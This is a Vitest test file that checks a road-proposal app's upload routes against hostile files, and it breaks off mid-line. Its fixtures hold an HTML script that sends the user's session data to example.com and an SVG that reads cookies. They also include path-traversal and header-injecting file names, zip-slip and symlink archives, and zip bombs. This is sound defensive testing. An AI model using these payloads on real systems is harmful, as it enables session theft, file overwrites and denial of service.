import { randomUUID } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
} from 'node:fs';
import http from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Readable, Writable } from 'node:stream';
import {
  COMPLETED_WORK_LIMITS,
  COMPLETED_WORK_MESSAGES,
  MB,
  PROPOSAL_MESSAGES,
  UPLOAD_LIMITS,
} from '@eusulan/shared';
import { desc, eq } from 'drizzle-orm';
import JSZip from 'jszip';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import {
  completedWorkImports,
  consultants,
  districts,
  photoCategories,
  proposalFiles,
  proposals,
  roads,
  subdistricts,
  surveyPhotos,
  surveyVideos,
  typeWorkColors,
  villages,
} from '../src/db/schema/index.ts';
import { VALIDATION_MESSAGE } from '../src/lib/http-error.ts';
import { runInWorker, WORKER_LIMIT_MESSAGE, WorkerLimitError } from '../src/lib/worker-task.ts';
import { scanWorkbook } from '../src/lib/xlsx-scan.ts';
import {
  lieAboutSize,
  rawZip,
  SAMPLE_FEATURES,
  shapefileZip,
} from '../src/modules/completed-work/completed-work.fixtures.ts';
import {
  completedWorkAttributes,
  lonLatToUtm49s,
  UTM49S_PRJ,
  writeLineShapefile,
  zipEntries,
} from '../src/modules/completed-work/completed-work-shapefile.ts';
import { IMPORT_FILE_LIMITS, MAX_IMPORT_ROWS } from '../src/modules/proposal/proposal-import.ts';
import { createTestApp, type TestApp } from './helpers.ts';
import { rezip, sheetPath, workbookWithRows, zipOfExactSize } from './hostile-workbooks.ts';
import { filledImportTemplate } from './import-workbook.ts';
import { fixture } from './multipart.ts';
import { tableRowCounts } from './row-counts.ts';

/**
 * Issue 10, item 4: hostile files on every upload route, table-driven. Spoofed content (executables and
 * HTML under an accepted name), one byte over each route's limit and exactly at it, a body far over it (cut,
 * not read), traversal and odd names, completed-work zips that climb out, link or explode, corrupt and huge
 * workbooks, broken shapefiles. Every refusal is a 4xx with the spec's or an Indonesian text and leaves
 * every table's row count, DATA_DIR (stored files and staging) and the server's temp directory as they
 * were. Stored files are served with nosniff, a sandboxing CSP and a Content-Disposition no name can break.
 * The reason texts of each zip check are asserted in completed-work-import.test.ts; here the point is that
 * nothing lands anywhere. The 1,000,000-row workbook is generated once per run (HOSTILE_ROWS sets another
 * size).
 */

const HUGE_ROWS = Number(process.env.HOSTILE_ROWS ?? 1_000_000);
/** Files this test generates, apart from the temp directory the server is watched in. */
const generated = mkdtempSync(path.join(tmpdir(), 'eusulan-hostile-files-'));
/** The server's temp directory (TMPDIR) while these tests run: anything a library leaves there shows. */
const serverTemp = mkdtempSync(path.join(tmpdir(), 'eusulan-hostile-tmp-'));
const originalTmpdir = process.env.TMPDIR;

/** What the server logged as errors (level 50) during a test: a refusal must never be one. */
const serverErrors: string[] = [];
const errorLog = new Writable({
  write(line, _encoding, done) {
    if (String(line).includes('"level":50')) serverErrors.push(String(line));
    done();
  },
});

let t: TestApp;
const headersOf: Record<'admin' | 'consultan' | 'structural', Record<string, string>> = {
  admin: {},
  consultan: {},
  structural: {},
};
const ids = { village: 0, road: 0, consultant: 0, photoCategory: 0, typeWork: 0 };
const PROPOSERS = [
  'Budi Santoso',
  'Siti Aminah',
  'Agus Salim',
  'Dewi Lestari',
  'Rudi Hartono',
  'Nur Hidayah',
  'Joko Susilo',
];
const LANDMARKS = ['masjid', 'balai RW', 'pasar', 'SD negeri', 'puskesmas'];
/** A filled import template with one good row, one with fifty, and a good completed-work zip. */
let goodWorkbook: Buffer;
let variedWorkbook: Buffer;
let goodZip: Buffer;

beforeAll(async () => {
  t = await createTestApp({}, { logStream: errorLog });
  process.env.TMPDIR = serverTemp;
  // Made by the first upload and kept: only what appears in it counts.
  mkdirSync(t.app.ctx.storage.stagingDir, { recursive: true });
  headersOf.admin = (await t.signIn('admin')).headers;
  headersOf.structural = (await t.signIn('structural')).headers;
  const [district] = await t.db.insert(districts).values({ name: 'Surabaya Selatan' }).returning();
  const surveyor = await t.signIn('consultan', { districtId: district!.id });
  headersOf.consultan = surveyor.headers;
  ids.consultant = surveyor.user.consultantId!;
  const [consultant] = await t.db.select().from(consultants).where(eq(consultants.id, ids.consultant));
  const [subdistrict] = await t.db
    .insert(subdistricts)
    .values({ name: 'Wonokromo', districtId: district!.id })
    .returning();
  const [village] = await t.db
    .insert(villages)
    .values({ name: 'Darmo', subdistrictId: subdistrict!.id })
    .returning();
  const [road] = await t.db.insert(roads).values({ name: 'Jalan Raya Darmo' }).returning();
  const [category] = await t.db.insert(photoCategories).values({ name: 'Kondisi Eksisting' }).returning();
  const [type] = await t.db
    .insert(typeWorkColors)
    .values({ typeWork: 'Pengaspalan', color: '#e53935' })
    .returning();
  Object.assign(ids, {
    village: village!.id,
    road: road!.id,
    photoCategory: category!.id,
    typeWork: type!.id,
  });
  const row = (index: number) => [
    `${String((index % 28) + 1).padStart(2, '0')}-08-2026`,
    PROPOSERS[index % PROPOSERS.length]!,
    `0812${String(34_567_890 + index * 7919).padStart(8, '0')}`,
    'Jalan Raya Darmo',
    'Darmo - Wonokromo',
    String((index % 12) + 1).padStart(2, '0'),
    String((index % 7) + 1).padStart(2, '0'),
    `Jl. Raya Darmo No. ${index + 10}, dekat ${LANDMARKS[index % LANDMARKS.length]}`,
    `${consultant!.code} - ${consultant!.name}`,
  ];
  goodWorkbook = await filledImportTemplate(t, headersOf.admin, 'pokir', [row(0)]);
  variedWorkbook = await filledImportTemplate(
    t,
    headersOf.admin,
    'pokir',
    Array.from({ length: 50 }, (_, index) => row(index)),
  );
  goodZip = await shapefileZip(SAMPLE_FEATURES);
});
afterEach(() => {
  expect(serverErrors.splice(0)).toEqual([]);
});
afterAll(async () => {
  if (originalTmpdir === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = originalTmpdir;
  await t?.close();
  rmSync(generated, { recursive: true, force: true });
  rmSync(serverTemp, { recursive: true, force: true });
});

// ---------------------------------------------------------------------------------------------------------
// What "nothing written" means, and how a refusal reads

/** Every file and folder under root ('folder/'), relative; none when root is missing. */
function entriesUnder(root: string): string[] {
  if (!existsSync(root)) return [];
  return readdirSync(root, { recursive: true, withFileTypes: true })
    .map((entry) => {
      const relative = path.relative(root, path.join(entry.parentPath, entry.name));
      return entry.isDirectory() ? `${relative}/` : relative;
    })
    .sort();
}

const snapshot = async () => ({
  rows: await tableRowCounts(t.db),
  dataDir: entriesUnder(t.config.DATA_DIR),
  // tsx's transform cache, which a parsing thread may start, is the one thing allowed to appear here.
  temp: entriesUnder(serverTemp).filter((entry) => !entry.startsWith('tsx-')),
});

type Reply = Awaited<ReturnType<TestApp['app']['inject']>>;

/** What a refusal tells the user: the field errors, or an import's list of problems. */
function refusalTexts(response: Reply): string[] {
  const body = response.json();
  if (body.errors) return Object.values(body.errors as Record<string, string[]>).flat();
  const list = (body.data?.errorList ?? []) as (string | { errors: string[] })[];
  return list.flatMap((item) => (typeof item === 'string' ? [item] : item.errors));
}

/** The envelope message of a refusal on each kind of upload. */
const REFUSAL_MESSAGES = {
  form: VALIDATION_MESSAGE,
  xlsx: 'Import gagal, tidak ada data yang disimpan. Perbaiki baris yang disebutkan.',
  zip: COMPLETED_WORK_MESSAGES.importFailed,
};

/** Sends, and checks the answer is a refusal with exactly these texts, having written nothing anywhere. */
async function expectRefused(
  send: () => Promise<Reply>,
  expected: { status: number; message: string; texts: string[] },
) {
  const before = await snapshot();
  const response = await send();
  expect(response.statusCode, response.body).toBe(expected.status);
  expect(response.json().status.message).toBe(expected.message);
  expect(refusalTexts(response)).toEqual(expected.texts);
  expect(await snapshot()).toEqual(before);
  return response;
}

// ---------------------------------------------------------------------------------------------------------
// Multipart bodies byte by byte: names exactly as a hostile client writes them, sizes never held in memory

const BOUNDARY = '----eusulan-hostile-files';

/** File bytes: a buffer, or a real file's head followed by zeros up to `size` (streamed, never allocated). */
type Content = Buffer | { head: Buffer; size: number };

interface FilePart {
  /** The file name as sent: raw UTF-8 in filename="...". */
  name: string;
  content: Content;
  type?: string;
  /** The Content-Disposition parameters instead of filename="name" (RFC 5987 filename*). */
  parameters?: string;
}

function* fileBytes(content: Content) {
  if (Buffer.isBuffer(content)) {
    yield content;
    return;
  }
  yield content.head;
  const zeros = Buffer.alloc(MB);
  for (let left = content.size - content.head.length; left > 0; left -= zeros.length) {
    yield left >= zeros.length ? zeros : zeros.subarray(0, left);
  }
}

function* multipartChunks(fields: Record<string, string | number>, field: string, file: FilePart) {
  for (const [name, value] of Object.entries(fields)) {
    yield Buffer.from(`--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
  }
  const parameters = file.parameters ?? `filename="${file.name}"`;
  yield Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${field}"; ${parameters}\r\n` +
      `Content-Type: ${file.type ?? 'application/octet-stream'}\r\n\r\n`,
  );
  yield* fileBytes(file.content);
  yield Buffer.from(`\r\n--${BOUNDARY}--\r\n`);
}

const MULTIPART_TYPE = `multipart/form-data; boundary=${BOUNDARY}`;

// ---------------------------------------------------------------------------------------------------------
// The upload routes

type Kind = 'document' | 'image' | 'video' | 'xlsx' | 'zip';
type Role = keyof typeof headersOf;

interface UploadRoute {
  name: string;
  role: Role;
  field: string;
  kind: Kind;
  limit: number;
  /** A fresh target: its URL and the form's other fields, all valid. */
  target: () => Promise<{ url: string; fields: Record<string, string | number> }>;
  /** The row of the file an accepted upload stored (the import stores none). */
  stored?: () => Promise<{ name: string; storageKey: string }>;
}

async function newProposal(status: 'unverified' | 'verified' | 'surveyed') {
  const [row] = await t.db
    .insert(proposals)
    .values({
      proposalType: 'taruna',
      proposalDate: '2026-05-01',
      proposerName: 'Warga Darmo',
      phoneNumber: '081300000000',
      roadId: ids.road,
      villageId: ids.village,
      address: 'Jl. Raya Darmo',
      consultantId: ids.consultant,
      statusType: status,
    })
    .returning({ id: proposals.id });
  return row!.id;
}

const proposalFields = () => ({
  proposalType: 'taruna',
  proposalDate: '2026-03-14',
  proposerName: 'Siti Aminah',
  phoneNumber: '081234567890',
  roadId: ids.road,
  villageId: ids.village,
  rtNumber: '03',
  rwNumber: '07',
  address: 'Jl. Raya Darmo No. 12',
  consultantId: ids.consultant,
});

const latestProposalFile = async () => {
  const [row] = await t.db.select().from(proposalFiles).orderBy(desc(proposalFiles.id)).limit(1);
  return row!;
};

const ROUTES: UploadRoute[] = [
  {
    name: 'POST proposal (Tambah Data Usulan)',
    role: 'admin',
    field: 'files[]',
    kind: 'document',
    limit: UPLOAD_LIMITS.proposalFormBytes,
    target: async () => ({ url: '/api-web/proposal', fields: proposalFields() }),
    stored: latestProposalFile,
  },
  {
    name: 'POST proposal/{id} (Edit Data Usulan)',
    role: 'admin',
    field: 'files[]',
    kind: 'document',
    limit: UPLOAD_LIMITS.proposalFormBytes,
    target: async () => ({
      url: `/api-web/proposal/${await newProposal('unverified')}`,
      fields: proposalFields(),
    }),
    stored: latestProposalFile,
  },
  {
    name: 'POST proposal/{id}/contact-person (detail dialog)',
    role: 'admin',
    field: 'files[]',
    kind: 'document',
    limit: UPLOAD_LIMITS.detailDialogBytes,
    target: async () => {
      const { proposalType: _type, consultantId: _consultant, ...fields } = proposalFields();
      return { url: `/api-web/proposal/${await newProposal('verified')}/contact-person`, fields };
    },
    stored: latestProposalFile,
  },
  {
    name: 'POST process/{id}/change-process (structural documents)',
    role: 'structural',
    field: 'files[]',
    kind: 'document',
    limit: UPLOAD_LIMITS.detailDialogBytes,
    target: async () => ({
      url: `/api-web/process/${await newProposal('surveyed')}/change-process`,
      fields: { processType: 'pending' },
    }),
    stored: latestProposalFile,
  },
  {
    name: 'POST survey/{id}/photo',
    role: 'consultan',
    field: 'file',
    kind: 'image',
    limit: UPLOAD_LIMITS.surveyPhotoBytes,
    target: async () => ({
      url: `/api/survey/${await newProposal('verified')}/photo`,
      fields: { photoCategoryId: ids.photoCategory },
    }),
    stored: async () => {
      const [row] = await t.db.select().from(surveyPhotos).orderBy(desc(surveyPhotos.id)).limit(1);
      return row!;
    },
  },
  {
    name: 'POST survey/{id}/video',
    role: 'consultan',
    field: 'file',
    kind: 'video',
    limit: UPLOAD_LIMITS.surveyVideoBytes,
    target: async () => ({
      url: `/api/survey/${await newProposal('verified')}/video`,
      fields: { description: 'Rekaman sepanjang jalan' },
    }),
    stored: async () => {
      const [row] = await t.db.select().from(surveyVideos).orderBy(desc(surveyVideos.id)).limit(1);
      return row!;
    },
  },
  {
    name: 'POST proposal/import-template (xlsx)',
    role: 'admin',
    field: 'file',
    kind: 'xlsx',
    limit: UPLOAD_LIMITS.importBytes,
    target: async () => ({ url: '/api-web/proposal/import-template', fields: { proposalType: 'pokir' } }),
  },
  {
    name: 'POST completed-work (zip)',
    role: 'admin',
    field: 'file',
    kind: 'zip',
    limit: COMPLETED_WORK_LIMITS.zipBytes,
    target: async () => ({
      url: '/api-web/completed-work',
      fields: { year: 2024, type_work_id: ids.typeWork },
    }),
    stored: async () => {
      const [row] = await t.db
        .select()
        .from(completedWorkImports)
        .orderBy(desc(completedWorkImports.id))
        .limit(1);
      return { name: row!.fileName, storageKey: row!.storageKey };
    },
  },
];

const STORING_ROUTES = ROUTES.filter((route) => route.stored);

function upload(
  route: UploadRoute,
  target: { url: string; fields: Record<string, string | number> },
  file: FilePart,
) {
  return t.app.inject({
    method: 'POST',
    url: target.url,
    headers: { ...headersOf[route.role], 'content-type': MULTIPART_TYPE },
    payload: Readable.from(multipartChunks(target.fields, route.field, file)),
  });
}

const PNG = fixture('road-photo.png').content;
const MP4 = fixture('survey-clip.mp4').content;

/** A real file the route accepts, `bytes` long when given. */
async function acceptedFile(kind: Kind, bytes?: number): Promise<FilePart> {
  switch (kind) {
    case 'document':
    case 'image':
      return { name: 'foto.png', type: 'image/png', content: bytes ? { head: PNG, size: bytes } : PNG };
    case 'video':
      return { name: 'rekaman.mp4', type: 'video/mp4', content: bytes ? { head: MP4, size: bytes } : MP4 };
    case 'xlsx':
      return {
        name: 'usulan.xlsx',
        // An embedded picture is what makes a real workbook this big.
        content: bytes ? await zipOfExactSize(goodWorkbook, bytes, 'xl/media/lampiran.png') : goodWorkbook,
      };
    case 'zip':
      return {
        name: 'pekerjaan.zip',
        type: 'application/zip',
        content: bytes ? await zipOfExactSize(goodZip, bytes, 'lampiran/catatan.txt') : goodZip,
      };
  }
}

/** The smallest Windows executable `file` and file-type recognise: MZ, a PE signature, an x86-64 header. */
function windowsExecutable() {
  const exe = Buffer.alloc(512);
  exe.write('MZ', 0, 'latin1');
  exe.writeUInt32LE(0x40, 0x3c); // e_lfanew
  exe.write('PE\0\0', 0x40, 'latin1');
  exe.writeUInt16LE(0x8664, 0x44); // machine: x86-64
  exe.writeUInt16LE(0xf0, 0x54); // optional header size
  exe.writeUInt16LE(0x22, 0x56); // an executable image
  exe.writeUInt16LE(0x20b, 0x58); // PE32+
  exe.writeUInt16LE(3, 0x58 + 68); // console subsystem
  return exe;
}

const HTML_PAGE = Buffer.from(
  '<!DOCTYPE html><html><head><title>foto</title><script>fetch("/api/auth/me").then((r) => r.text())' +
    '.then((t) => navigator.sendBeacon("https://example.com/", t))</script></head><body></body></html>',
);
const SVG_SCRIPT = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
);

async function docxFile() {
  const docx = new JSZip();
  docx.file(
    '[Content_Types].xml',
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
  );
  docx.file(
    'word/document.xml',
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
  );
  return docx.generateAsync({ type: 'nodebuffer' });
}

/** Content that is not what its name says, per kind of route: executables and pages everywhere, plus the near misses. */
async function spoofsFor(kind: Kind): Promise<{ label: string; content: Buffer }[]> {
  const everywhere = [
    { label: 'a Linux executable (ELF)', content: fixture('program.png').content },
    { label: 'a Windows executable (PE)', content: windowsExecutable() },
    { label: 'an HTML page with a script', content: HTML_PAGE },
  ];
  const nearMisses: Record<Kind, { label: string; content: Buffer }[]> = {
    document: [{ label: 'an SVG with a script', content: SVG_SCRIPT }],
    image: [{ label: 'a PDF (a document, not a photo)', content: fixture('surat-usulan.pdf').content }],
    video: [{ label: 'a PNG (a photo, not a video)', content: PNG }],
    xlsx: [
      {
        label: 'a zip that is no workbook',
        content: await zipEntries([{ name: 'data.csv', content: 'a,b\n' }]),
      },
      { label: 'a Word document', content: await docxFile() },
    ],
    zip: [{ label: 'a workbook (a zip inside, but no zip)', content: goodWorkbook }],
  };
  return [...everywhere, ...nearMisses[kind]];
}

const SPOOF_NAMES: Record<Kind, string[]> = {
  document: ['foto.jpg', 'gambar.png', 'surat.pdf'],
  image: ['foto.jpg', 'foto.png'],
  video: ['rekaman.mp4'],
  xlsx: ['usulan.xlsx'],
  zip: ['pekerjaan.zip'],
};

/** How every upload route refuses a file at the door (type, size): 422 with the file field's text. */
const AT_THE_DOOR = { status: 422, message: VALIDATION_MESSAGE };

// ---------------------------------------------------------------------------------------------------------

describe.each(ROUTES)('$name', (route) => {
  it('refuses executables and pages named as an accepted type, writing nothing', async () => {
    const target = await route.target();
    const before = await snapshot();
    for (const spoof of await spoofsFor(route.kind)) {
      for (const name of SPOOF_NAMES[route.kind]) {
        const response = await upload(route, target, { name, content: spoof.content });
        expect(response.statusCode, `${spoof.label} as ${name}`).toBe(AT_THE_DOOR.status);
        expect(response.json().status.message).toBe(AT_THE_DOOR.message);
        expect(refusalTexts(response)).toEqual([`${PROPOSAL_MESSAGES.fileType} (${name})`]);
      }
    }
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a file one byte over its limit with the spec text, and closes the connection', async () => {
    const target = await route.target();
    const response = await expectRefused(
      async () => upload(route, target, await acceptedFile(route.kind, route.limit + 1)),
      { ...AT_THE_DOOR, texts: [PROPOSAL_MESSAGES.fileSize(route.limit / MB)] },
    );
    expect(response.headers.connection).toBe('close');
  });

  it('takes a file of exactly its limit, whole', async () => {
    const response = await upload(route, await route.target(), await acceptedFile(route.kind, route.limit));
    expect(response.statusCode, response.body.slice(0, 500)).toBeLessThan(300);
    if (route.kind === 'xlsx') {
      expect(response.json().data).toEqual({ imported: 1 });
      return;
    }
    const stored = await route.stored!();
    expect(statSync(path.join(t.config.DATA_DIR, 'files', stored.storageKey)).size).toBe(route.limit);
  });
});

// ---------------------------------------------------------------------------------------------------------
// A body far over the limit: answered at the limit, the rest never read

describe('a body far over the limit', () => {
  let origin: string;
  beforeAll(async () => {
    origin = await t.app.listen({ host: '127.0.0.1', port: 0 });
  });

  /**
   * Streams `bytes` of file to the route over a real socket, at the pace the server reads. Resolves with
   * the answer, how much had been sent when it came, and whether the server let the upload finish.
   */
  function streamUpload(
    route: UploadRoute,
    target: { url: string; fields: Record<string, string | number> },
    file: FilePart,
  ) {
    return new Promise<{
      status: number;
      body: string;
      sentWhenAnswered: number;
      connection?: string;
      finished: boolean;
      /** The server's close reset the connection before its answer could be read (see below). */
      reset: boolean;
    }>((resolve) => {
      let sent = 0;
      let sentWhenAnswered = -1;
      let finished = false;
      const request = http.request(`${origin}${target.url}`, {
        method: 'POST',
        headers: { ...headersOf[route.role], 'content-type': MULTIPART_TYPE },
      });
      request.on('response', (response) => {
        sentWhenAnswered = sent;
        let body = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => {
          body += chunk;
        });
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            body,
            sentWhenAnswered,
            connection: response.headers.connection,
            finished,
            reset: false,
          }),
        );
      });
      // Writing into a closed connection fails: that is the cut this test expects. When the server closes
      // while bytes are still arriving, its kernel answers them with a reset, which can overtake the answer
      // on a busy machine (seen in CI); the cut itself is then what the client sees.
      request.on('error', () => {
        if (sentWhenAnswered < 0) {
          resolve({ status: 0, body: '', sentWhenAnswered: sent, finished, reset: true });
        }
      });
      const chunks = multipartChunks(target.fields, route.field, file);
      const pump = () => {
        for (let next = chunks.next(); !next.done; next = chunks.next()) {
          if (request.destroyed || sentWhenAnswered >= 0) return;
          sent += next.value.length;
          if (!request.write(next.value)) {
            request.once('drain', pump);
            return;
          }
        }
        finished = true;
        request.end();
      };
      pump();
    });
  }

  const BEYOND = 64 * MB;

  it.each(ROUTES)(
    '$name: answered before the rest is sent, the connection closed, memory flat',
    async (route) => {
      const target = await route.target();
      const file = await acceptedFile(route.kind);
      const total = route.limit + BEYOND;
      const before = await snapshot();
      const rssBefore = process.memoryUsage().rss;
      const result = await streamUpload(route, target, {
        ...file,
        content: { head: Buffer.isBuffer(file.content) ? file.content : file.content.head, size: total },
      });
      if (!result.reset) {
        expect(result.status, result.body).toBe(422);
        expect(refusalTexts({ json: () => JSON.parse(result.body) } as Reply)).toEqual([
          PROPOSAL_MESSAGES.fileSize(route.limit / MB),
        ]);
        expect(result.connection).toBe('close');
      }
      // Socket buffers on both sides hold a few MB; the server read no further than that past the limit.
      expect(result.sentWhenAnswered).toBeLessThan(route.limit + 16 * MB);
      expect(result.finished).toBe(false);
      expect(process.memoryUsage().rss - rssBefore).toBeLessThan(BEYOND);
      expect(await snapshot()).toEqual(before);
    },
  );
});

// ---------------------------------------------------------------------------------------------------------
// Names: whatever the client calls a file, it is stored under a key of ours and shown by a harmless name

/** A file name as a hostile client sends it, and the parameters it arrives in. */
const HOSTILE_NAMES: { label: string; name: string; parameters?: string }[] = [
  { label: 'traversal', name: '../../etc/passwd.png' },
  { label: 'absolute path', name: '/etc/passwd.png' },
  { label: 'Windows path', name: 'C:\\Windows\\System32\\..\\foto.png' },
  {
    label: 'traversal in filename*',
    name: 'passwd.png',
    parameters: "filename*=UTF-8''..%2F..%2Fetc%2Fpasswd.png",
  },
  { label: 'NUL and control characters', name: 'foto\u0000\u0001\u001b[31m\u007f.png' },
  { label: 'a right-to-left override', name: 'foto\u202egnp.exe' },
  { label: 'quotes and header text', name: 'a"; filename="evil.html.png' },
  { label: 'only dots', name: '....png' },
  { label: 'a reserved Windows name', name: 'CON.png' },
  { label: '1,000 characters cut inside an emoji', name: `${'j'.repeat(149)}😀${'a'.repeat(850)}.png` },
  { label: 'Indonesian text in UTF-8', name: 'Jalan Raya Darmo – retak ✓.png' },
];

/** What a shown name may never hold: folders, control or format characters, half a character, a dot first. */
function expectHarmless(name: string, ext: string) {
  expect(name).not.toMatch(/[/\\]/);
  // U+FFFD: what the database makes of half a surrogate pair
  expect(name).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\ufffd]/u);
  expect(name).not.toMatch(/^\./);
  expect(name.endsWith(`.${ext}`)).toBe(true);
  expect(Array.from(name).length).toBeLessThanOrEqual(160);
}

describe.each(STORING_ROUTES.filter((route) => route.kind !== 'zip'))('$name: hostile names', (route) => {
  it('stores each under a key of its own inside DATA_DIR/files and shows a harmless name', async () => {
    const file = await acceptedFile(route.kind);
    const ext = route.kind === 'video' ? 'mp4' : 'png';
    for (const hostile of HOSTILE_NAMES) {
      const before = entriesUnder(t.config.DATA_DIR);
      const response = await upload(route, await route.target(), {
        ...file,
        name: hostile.name.replace(/\.png$/, `.${ext}`),
        parameters: hostile.parameters?.replace(/\.png$/, `.${ext}`),
      });
      expect(response.statusCode, `${hostile.label}: ${response.body.slice(0, 300)}`).toBeLessThan(300);
      const stored = await route.stored!();
      expectHarmless(stored.name, ext);
      expect(stored.storageKey).toMatch(new RegExp(`^(proposals|surveys)/\\d+/[0-9a-f-]{36}\\.${ext}$`));
      // One new file (and at most its folders), all under files/; the staging directory as it was.
      const added = entriesUnder(t.config.DATA_DIR).filter((entry) => !before.includes(entry));
      expect(added.filter((entry) => !entry.endsWith('/'))).toEqual([path.join('files', stored.storageKey)]);
      expect(added.every((entry) => entry.startsWith('files/'))).toBe(true);
    }
    expect(existsSync(path.join(t.config.DATA_DIR, '..', 'etc'))).toBe(false);
  });

  it('keeps readable names as they were written', async () => {
    const file = await acceptedFile(route.kind);
    const ext = route.kind === 'video' ? 'mp4' : 'png';
    const response = await upload(route, await route.target(), {
      ...file,
      name: `Jalan Raya Darmo – retak ✓.${ext}`,
    });
    expect(response.statusCode, response.body.slice(0, 300)).toBeLessThan(300);
    expect((await route.stored!()).name).toBe(`Jalan Raya Darmo – retak ✓.${ext}`);
  });
});

// ---------------------------------------------------------------------------------------------------------
// Completed-work zips that climb out, link, explode or lie: refused before a byte lands anywhere

const completedWorkRoute = ROUTES.find((route) => route.kind === 'zip')!;
const importZip = async (content: Buffer, name = 'pekerjaan.zip') =>
  upload(completedWorkRoute, await completedWorkRoute.target(), { name, content, type: 'application/zip' });
const refusedZip = (texts: string[]) => ({ status: 400, message: REFUSAL_MESSAGES.zip, texts });

/** A name no earlier run used, for the files a traversal would create outside the staging directory. */
const escapee = `eusulan-zip-slip-${randomUUID()}`;
const outsidePaths = () => [
  path.join('/tmp', `${escapee}.shp`),
  path.join(t.config.DATA_DIR, `${escapee}.shp`),
  path.join(t.config.DATA_DIR, '..', `${escapee}.shp`),
  path.join(t.app.ctx.storage.stagingDir, '..', `${escapee}.shp`),
];

describe('completed-work zips that climb out, link or explode', () => {
  const shp = () =>
    writeLineShapefile(
      SAMPLE_FEATURES.map((feature) => ({
        parts: feature.lines.map((line) => line.map(lonLatToUtm49s)),
        attributes: completedWorkAttributes(feature),
      })),
    );

  it.each([
    {
      label: 'a layer named ../../../../../../tmp/…',
      zip: async () =>
        rawZip([
          { name: `../../../../../../tmp/${escapee}.shp`, content: shp().shp },
          { name: `../../../../../../tmp/${escapee}.dbf`, content: shp().dbf },
        ]),
      reasons: [
        `Nama berkas di dalam zip mengandung '..': ../../../../../../tmp/${escapee}.shp`,
        `Nama berkas di dalam zip mengandung '..': ../../../../../../tmp/${escapee}.dbf`,
      ],
    },
    {
      label: 'an absolute path',
      zip: async () => rawZip([{ name: `/tmp/${escapee}.shp`, content: shp().shp }]),
      reasons: [`Nama berkas di dalam zip berupa path absolut: /tmp/${escapee}.shp`],
    },
    {
      label: 'a UNC path in backslashes',
      zip: async () => rawZip([{ name: `\\\\server\\share\\${escapee}.shp`, content: shp().shp }]),
      reasons: [`Nama berkas di dalam zip memakai garis miring terbalik: \\\\server\\share\\${escapee}.shp`],
    },
    {
      label: 'a folder symlinked to /tmp with the layer "inside" it',
      zip: async () =>
        rawZip([
          { name: 'peta', content: '/tmp', unixPermissions: 0o120777 },
          { name: `peta/${escapee}.shp`, content: shp().shp },
          { name: `peta/${escapee}.dbf`, content: shp().dbf },
        ]),
      reasons: ['Zip berisi symlink: peta'],
    },
    {
      label: 'a .prj that is a symlink to /etc/passwd',
      zip: async () =>
        rawZip([
          { name: 'jalan.shp', content: shp().shp },
          { name: 'jalan.dbf', content: shp().dbf },
          { name: 'jalan.prj', content: '/etc/passwd', unixPermissions: 0o120777 },
        ]),
      reasons: ['Zip berisi symlink: jalan.prj'],
    },
    {
      label: 'a bomb: 8 MB of zeros in a .shp of 8 kB',
      zip: async () =>
        rawZip([
          { name: 'jalan.shp', content: Buffer.alloc(8 * MB) },
          { name: 'jalan.dbf', content: shp().dbf },
        ]),
      reasons: ['Rasio kompresi jalan.shp melebihi 100:1 (dicurigai zip bomb).'],
    },
    {
      label: 'a .shp that declares 2,000 bytes and inflates to 8 MB',
      zip: async () =>
        lieAboutSize(
          await rawZip([
            { name: 'jalan.shp', content: Buffer.concat([shp().shp, Buffer.alloc(8 * MB)]) },
            { name: 'jalan.dbf', content: shp().dbf },
          ]),
          'jalan.shp',
          2000,
        ),
      reasons: ['Isi jalan.shp tidak sesuai dengan ukuran yang tercatat di zip (dicurigai zip bomb).'],
    },
    {
      label: 'a .dbf that declares more than it holds',
      zip: async () =>
        lieAboutSize(
          await rawZip([
            { name: 'jalan.shp', content: shp().shp },
            { name: 'jalan.dbf', content: shp().dbf },
          ]),
          'jalan.dbf',
          shp().dbf.length + 10_000,
        ),
      reasons: ['Isi jalan.dbf tidak sesuai dengan ukuran yang tercatat di zip (dicurigai zip bomb).'],
    },
    {
      label: 'a zip inside the zip (never opened)',
      zip: async () => rawZip([{ name: 'dalam.zip', content: goodZip }]),
      reasons: ['Zip tidak berisi shapefile (.shp, .shx, .dbf, .prj), GeoJSON atau KML.'],
    },
    {
      label: 'two layers whose names differ in case only',
      zip: async () =>
        rawZip([
          { name: 'jalan.shp', content: shp().shp },
          { name: 'JALAN.SHP', content: shp().shp },
          { name: 'jalan.dbf', content: shp().dbf },
        ]),
      reasons: ['Zip berisi 2 shapefile (jalan.shp, JALAN.SHP); unggah satu layer per file.'],
    },
  ])('refuses $label, writing nothing anywhere', async ({ zip, reasons }) => {
    await expectRefused(async () => importZip(await zip()), refusedZip(reasons));
    for (const target of outsidePaths()) expect(existsSync(target)).toBe(false);
  });

  it('keeps a hostile file name harmless in the list of imports', async () => {
    for (const hostile of [HOSTILE_NAMES[0]!, HOSTILE_NAMES[4]!]) {
      const response = await upload(completedWorkRoute, await completedWorkRoute.target(), {
        name: hostile.name.replace(/\.png$/, '.zip'),
        parameters: hostile.parameters?.replace(/\.png$/, '.zip'),
        content: goodZip,
        type: 'application/zip',
      });
      expect(response.statusCode, `${hostile.label}: ${response.body.slice(0, 300)}`).toBe(201);
      const stored = await completedWorkRoute.stored!();
      expectHarmless(stored.name, 'zip');
      expect(stored.storageKey).toMatch(/^completed-works\/2024\/[0-9a-f-]{36}\.zip$/);
    }
  });
});

// ---------------------------------------------------------------------------------------------------------
// Corrupt and huge workbooks

const importRoute = ROUTES.find((route) => route.kind === 'xlsx')!;
const importWorkbook = async (content: Content) =>
